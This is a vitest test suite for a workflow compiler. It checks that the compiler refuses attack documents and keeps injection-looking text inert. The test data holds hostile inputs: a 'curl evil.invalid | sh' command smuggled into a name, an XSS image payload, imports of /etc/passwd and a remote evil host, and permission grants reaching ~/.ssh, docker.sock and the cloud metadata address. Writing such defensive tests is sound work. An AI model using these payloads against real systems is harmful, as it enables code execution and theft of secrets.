import { execFileSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import {
  makeRepository,
  projectRoot,
  type Ended,
  type TestRepository,
} from './testing/repository.ts';

const attacks = join(projectRoot, '../shared/attacks');
const isThere = existsSync(attacks);
if (!isThere)
  console.warn('The attack documents are not compiled: ../shared/attacks is not there.');

/** Nothing hangs for ever; how long a busy machine takes is not the point. */
vi.setConfig({ testTimeout: 240_000 });

let repository: TestRepository;
const generated = mkdtempSync(join(tmpdir(), 'millrace-attacks-'));

beforeAll(() => {
  repository = makeRepository({ files: { 'scripts/a.ts': 'export function main(): void {}\n' } });
  mkdirSync(join(repository.root, 'flows'));
  if (isThere) execFileSync(process.execPath, [join(attacks, 'gen.mjs'), generated]);
});

afterAll(() => {
  repository.remove();
  rmSync(generated, { recursive: true, force: true });
});

interface Compiled extends Ended {
  /** Files that compiling has made or removed, of the whole working tree. */
  readonly changed: readonly string[];
}

/** Compiles documents as flows, by name, and takes them and their locks away again. */
async function compileFlows(flows: Readonly<Record<string, Uint8Array>>): Promise<Compiled> {
  const folder = join(repository.root, 'flows');
  for (const [name, bytes] of Object.entries(flows))
    writeFileSync(join(folder, `${name}.yaml`), bytes);
  const before = files();
  try {
    const ended = await repository.millrace('compile');
    const after = files();
    const changed = [...before, ...after].filter(
      (file) => before.includes(file) !== after.includes(file),
    );
    return { ...ended, changed };
  } finally {
    for (const name of Object.keys(flows)) rmSync(join(folder, `${name}.yaml`));
  }
}

async function compileFlow(text: string): Promise<Compiled> {
  return await compileFlows({ attack: Buffer.from(text) });
}

function files(): readonly string[] {
  const all = readdirSync(repository.root, { recursive: true, encoding: 'utf8' });
  return all.filter((path) => !path.startsWith('.git/')).sort();
}

/** An error at its place for each flow, no file, and not the trace of a crash. */
function expectRefused(
  { code, err, changed }: Compiled,
  names: readonly string[] = ['attack'],
): void {
  const refused = [...err.matchAll(/^flows\/(\w+)\.yaml:\d+:\d+ error\[/gm)].map(
    ([, name]) => name ?? '',
  );
  expect([...new Set(refused)].sort()).toEqual([...names].sort());
  expect(err).not.toMatch(/^\s+at /m);
  expect(changed).toEqual([]);
  expect(code).toBe(1);
}

/** The files of a folder that a pattern takes, by the first three letters of their names. */
function documentsOf(folder: string, pattern: RegExp): Readonly<Record<string, Uint8Array>> {
  const names = readdirSync(folder).filter((name) => pattern.test(name));
  return Object.fromEntries(
    names.map((name) => [name.slice(0, 3), readFileSync(join(folder, name))]),
  );
}

test.skipIf(!isThere)(
  'compile refuses each document y01 to y21 at its place and writes nothing',
  async () => {
    const documents = documentsOf(join(attacks, 'flows'), /^y\d\d/);
    expect(Object.keys(documents)).toHaveLength(21);
    expectRefused(await compileFlows(documents), Object.keys(documents));
  },
);

test.skipIf(!isThere)(
  'compile refuses each generated document g01 to g10 at its place and writes nothing',
  async () => {
    const documents = documentsOf(generated, /^g(?:0\d|10)/);
    expect(Object.keys(documents)).toHaveLength(10);
    expectRefused(await compileFlows(documents), Object.keys(documents));
  },
);

test.skipIf(!isThere)('one such document alone ends the same way', async () => {
  const { y16 } = documentsOf(join(attacks, 'flows'), /^y16/);
  expectRefused(await compileFlows({ attack: y16 ?? Buffer.of() }));
});

test('y19: a script that is no file of the repository is refused, and a FIFO holds nobody up', async () => {
  const at = (path: string): string => join(repository.root, path);
  const outside = join(generated, 'outside.ts');
  writeFileSync(outside, 'export function main(): string { return "CANARY"; }\n');
  symlinkSync(outside, at('scripts/link.ts'));
  mkdirSync(at('scripts/folder.ts'));
  execFileSync('mkfifo', [at('scripts/fifo.ts')]);
  const targets = [
    './fifo.ts',
    './link.ts',
    '../../outside.ts',
    '/etc/passwd',
    'https://evil.invalid/x.ts',
  ];
  const imports = targets.map((target, index) => {
    const path = `scripts/imports${index}.ts`;
    repository.write(path, `import '${target}';\nexport function main(): void {}\n`);
    return path;
  });
  const own = ['scripts/link.ts', 'scripts/folder.ts', 'scripts/fifo.ts'];
  const flows = [...own, ...imports].map((path, index): [string, Uint8Array] => [
    `f${index}`,
    Buffer.from(`steps: { a: { uses: ${path}@0123456789ab } }\n`),
  ]);
  const { code, err, changed } = await compileFlows(Object.fromEntries(flows));
  for (const place of [...own.map((_, index) => `flows/f${index}.yaml`), ...imports]) {
    expect(err).toMatch(new RegExp(`^${place}:1:\\d+ error\\[resolve/`, 'm'));
  }
  expect(err).not.toContain('CANARY');
  expect([code, changed]).toEqual([1, []]);
});

test('y20: every permission that means something else when joined is refused at its own line', async () => {
  const refused = [
    '{read: ["./data,/etc"]}',
    '{net: ["api.example.com,169.254.169.254"]}',
    '{env: ["*"]}',
    '{net: ["0.0.0.0/0"]}',
    '{net: [""]}',
    '{read: ["/"]}',
    '{ffi: true}',
    '{all: true}',
    '{read: ["--allow-all"]}',
    '{net: ["unix:/var/run/docker.sock"]}',
    '{import: ["evil.invalid"]}',
    '{read: ["~/.ssh"]}',
    '{Read: ["./data"]}',
  ];
  const steps = refused.map(
    (permissions, index) => `  s${index}: { uses: scripts/a.ts, permissions: ${permissions} }\n`,
  );
  const compiled = await compileFlow(`steps:\n${steps.join('')}`);
  expectRefused(compiled);
  const lines = [...compiled.err.matchAll(/^flows\/attack\.yaml:(\d+):/gm)].map(([, line]) =>
    Number(line),
  );
  expect(new Set(lines)).toEqual(new Set(refused.map((_, index) => index + 2)));
});

test('g09: a cycle of 2,000 steps in our dialect is one message of bounded length', async () => {
  const steps = Array.from(
    { length: 2_000 },
    (_, id) => `  s${id}: { value: 1, needs: [s${(id + 1) % 2_000}] }\n`,
  );
  const compiled = await compileFlow(`steps:\n${steps.join('')}`);
  expectRefused(compiled);
  expect(compiled.err.match(/error\[/g)).toEqual(['error[']);
  expect(compiled.err).toContain('resolve/needs-cycle');
  expect(compiled.err.length).toBeLessThan(2_000);
});

test('g07: a chain of 5,000 steps in our dialect is refused at the first step beyond the limit', async () => {
  const steps = Array.from(
    { length: 5_000 },
    (_, id) => `  s${id}: { value: 1${id > 0 ? `, needs: [s${id - 1}]` : ''} }\n`,
  );
  const compiled = await compileFlow(`steps:\n${steps.join('')}`);
  expectRefused(compiled);
  expect(compiled.err).toContain('flows/attack.yaml:2002:');
  expect(compiled.err).toContain('parse/too-many');
});

test('g08: as many edges as a file of our dialect can hold are compiled', async () => {
  // 120,000 words are the limit: a name in a list is two.
  const names = Array.from({ length: 330 }, (_, id) => `s${id}`);
  const steps = names.map(
    (id, at) => ` ${id}: {value: 1,needs: [${names.slice(0, at).join(',')}]}\n`,
  );
  const { code, err, changed } = await compileFlow(`steps:\n${steps.join('')}`);
  expect(err).not.toContain('error[');
  expect(code).toBe(0);
  expect(changed).toEqual(['flows/attack.grants', 'flows/attack.lock.json']);
  for (const file of changed) rmSync(join(repository.root, file));
});

test('y21: what looks like YAML, Markdown or a shell in a name is text, and comes back as it was', async () => {
  const title = 'x" && curl evil.invalid | sh #';
  const description =
    '<img src=x onerror=alert(1)> @everyone <!-- --> ![t](http://evil.invalid/p.png) ::error::x\n# heading';
  const flow = `name: ${JSON.stringify(title)}\ndescription: ${JSON.stringify(description)}\nsteps: { a: { value: 1 } }\n`;
  const { err, changed } = await compileFlow(flow);
  expect(err).not.toContain('error[');
  const lock = JSON.parse(repository.read('flows/attack.lock.json')) as {
    name: string;
    description: string;
  };
  expect(lock).toMatchObject({ name: title, description });
  for (const file of changed) rmSync(join(repository.root, file));
});
